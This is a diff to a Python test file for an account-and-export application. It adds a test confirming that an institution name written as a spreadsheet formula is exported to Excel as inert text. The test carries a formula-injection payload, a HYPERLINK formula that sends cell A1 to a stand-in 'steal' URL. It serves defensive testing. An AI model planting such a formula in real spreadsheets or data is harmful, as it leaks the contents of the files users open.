@@ -5,6 +5,7 @@ import io
 
 import openpyxl
 import pytest
+import sqlalchemy as sa
 
 from core import accounts, admin, audit, demo, exports, importer, settings_view
 from core.accounts import AccessDenied, LoginFailed
@@ -232,3 +233,22 @@ def test_the_first_admin_is_made_at_the_command_line(tmp_path):
                                                                    ("account_created", "jinan"),
                                                                    ("account_disabled", "jinan")}
     assert log["username"].str.startswith("cli:").all()
+
+
+def test_an_institution_named_like_a_formula_is_exported_as_text(demo_copy):
+    from core import interviews, marts
+    from core.view import View
+    leader = accounts.authenticate(demo_copy, "demo_leader", demo.DEMO_PASSWORD)
+    view = View.of(demo_copy, marts.default_view(demo_copy))
+    code = interviews.interview_list(view).query("subject_type == 'institution'")["subject_code"].iloc[0]
+    name = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击查看")'
+    with demo_copy.begin() as conn:  # as an upload could have written it
+        conn.execute(sa.text("UPDATE institutions SET institution_name = :n WHERE institution_code = :c"),
+                     {"n": name, "c": code})
+        demo_copy.bump_data_version(conn)
+    view = View.of(demo_copy, marts.ensure_view(demo_copy))
+    wb = openpyxl.load_workbook(io.BytesIO(interviews.export(view, leader)))
+    cells = [row[2] for row in wb["约谈名单"].iter_rows(min_row=2) if row[1].value == code]
+    assert len(cells) == 1 and cells[0].value == name and cells[0].data_type == "s"
+    evidence = [row[1] for row in wb["预警依据"].iter_rows(min_row=2) if row[0].value == code]
+    assert evidence and all(c.value == name and c.data_type == "s" for c in evidence)
